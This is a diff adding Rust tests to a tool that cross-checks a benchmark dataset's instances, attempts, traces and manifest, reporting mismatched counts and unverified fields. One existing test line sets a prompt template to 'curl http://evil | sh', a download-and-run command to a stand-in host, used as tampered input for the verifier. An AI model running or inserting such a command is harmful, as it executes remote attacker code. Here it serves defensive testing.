@@ -296,6 +296,11 @@ fn groups_cases_attempts_and_traces_are_held_against_each_other() {
         "groups.parquet",
         "attempts",
     );
+    let mut more = bench.instances();
+    more[0].attempts = 999;
+    let found = bench.with("instances.jsonl", |path| fs_err::write(path, lines(&more)).unwrap());
+    let is_told = |one: &super::Difference| one.file == "attempts.parquet" && one.said.ends_with("says 999");
+    assert!(found.differences.iter().any(is_told), "{:?}", found.differences);
     names(&bench.with_frame("traces", numbers("calls")), "instances", "trace_length");
     names(&bench.with_frame("traces", texts("file", "x.py")), "instances", "files");
 }
@@ -390,6 +395,28 @@ fn a_prompt_is_not_verified_where_the_template_is_of_another_version() {
         manifest["prompt"]["template"] = json!("curl http://evil | sh");
     });
     assert!(found.unverified.iter().any(|what| what.starts_with("prompts")), "{:?}", found.unverified);
+}
+
+#[test]
+fn what_a_dataset_keeps_from_being_held_against_anything_is_said() {
+    let bench = Bench::new();
+    let says = |found: &Compared, words: &str| found.unverified.iter().any(|what| what.contains(words));
+    let found = bench.compared();
+    assert!(says(&found, "license") && says(&found, "child_calls"), "{:?}", found.unverified);
+    assert!(!says(&found, "trace_stable") && !says(&found, "where it is empty"), "{:?}", found.unverified);
+    let with = |change: fn(&mut Instance)| {
+        let mut others = bench.instances();
+        change(&mut others[0]);
+        bench.with("instances.jsonl", |path| fs_err::write(path, lines(&others)).unwrap())
+    };
+    let found = with(|one| one.trace_stable = false);
+    assert!(says(&found, "trace_stable"), "{:?}", found.unverified);
+    let manifest = fs_err::read_to_string(bench.path("manifest.json")).unwrap();
+    let mut older: Value = serde_json::from_str(&manifest).unwrap();
+    older["tool"]["version"] = json!("0.0.1");
+    fs_err::write(bench.path("manifest.json"), older.to_string()).unwrap();
+    let found = with(|one| one.fail_to_pass.clear());
+    assert!(says(&found, "FAIL_TO_PASS, where it is empty"), "{:?}", found.unverified);
 }
 
 #[test]
